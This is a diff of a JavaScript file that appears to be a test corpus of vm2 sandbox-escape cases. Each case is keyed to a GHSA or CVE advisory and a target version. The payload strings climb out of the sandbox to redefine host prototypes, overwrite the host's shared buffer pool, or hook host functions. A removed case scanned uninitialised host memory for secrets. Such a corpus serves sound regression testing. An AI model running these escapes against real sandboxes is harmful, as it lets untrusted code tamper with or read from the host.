@@ -12,11 +12,11 @@ module.exports = [
     code: ({ climb }) => `${climb} delete up(HostObject.entries({})).includes; 1`,
   },
   {
-    name: 'prototype-of-all-bytes', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.11.2', reaches: 'changed: Uint8Array.prototype.mine',
+    name: 'prototype-of-all-bytes', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.10.5', reaches: 'changed: Uint8Array.prototype.mine',
     code: ({ climb }) => `${climb} Reflect.defineProperty(up(up(Buffer.of(1))), 'mine', { value: 1, configurable: true }); 1`,
   },
   {
-    name: 'next-of-all-lists', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.11.2', reaches: 'changed: iterator.mine',
+    name: 'next-of-all-lists', advisory: 'GHSA-3vgf-8m4q-q4qr', kind: 'VM', against: '3.10.5', reaches: 'changed: iterator.mine',
     code: ({ climb }) => `${climb} const it = HostObject.entries({}).values(); Reflect.defineProperty(up(it), 'mine', { value: 1 }); 1`,
   },
   {
@@ -26,10 +26,6 @@ module.exports = [
   {
     name: 'pool-of-bytes-is-written', advisory: 'GHSA-fcqc-726x-5wfc', kind: 'VM', against: '3.11.2', reaches: 'changed: bytes of its pool',
     code: `const all = Buffer.from('x').buffer, bytes = Buffer.from(all, 0, all.byteLength), at = bytes.indexOf('pooled:'); if (at >= 0) bytes.write('robbed:', at); 1`,
-  },
-  {
-    name: 'memory-that-was-not-cleared', advisory: 'before 3.11: bytes that were not cleared are those of the host', kind: 'VM', against: '3.9.19', reaches: 'secret of its memory',
-    code: `let found = ''; for (let i = 0; i < 64 && !found; i++) { const text = Buffer.allocUnsafe(8).buffer ? Buffer.from(Buffer.allocUnsafe(8).buffer).toString('latin1') : ''; if (text.includes('pooled:')) found = text; } found`,
   },
   {
     name: 'hook-of-a-function', advisory: 'GHSA-m5q2-4fm3-vfqp', kind: 'VM', against: '3.11.2', reaches: 'changed: what its function becomes',
@@ -44,10 +40,9 @@ module.exports = [
     wins: (host) => (host.load.limit === 0 || host.load.role !== undefined) && 'changed: what its function has',
   },
   {
-    name: 'prototype-of-emitters', advisory: 'CVE-2021-23449 and what came after it', kind: 'NodeVM', against: '3.9.9', reaches: 'changed: events.prototype.emit',
-    options: { require: { builtin: ['events'], external: false } },
-    code: `const EventEmitter = require('events'), make = Object.getPrototypeOf(new EventEmitter());
-      for (const it of [EventEmitter.prototype, make]) try { Reflect.defineProperty(it, 'emit', { value() { return 'mine'; }, configurable: true, writable: true }); it.emit = () => 'mine'; } catch {}`,
+    name: 'prototype-of-emitters', advisory: 'GHSA-vwrp-x96c-mhwq', kind: 'NodeVM', against: '3.10.5', reaches: 'changed: events.prototype.mine',
+    options: { require: { builtin: ['stream'], external: false } },
+    code: ({ climb }) => `${climb} Reflect.defineProperty(up(up(require('stream').Readable.prototype)), 'mine', { value: 1 });`,
   },
   {
     name: 'objects-that-are-given', advisory: 'by design: what is given is the host\'s own', kind: 'VM', against: '3.12.2', reaches: 'changed: what it configured',
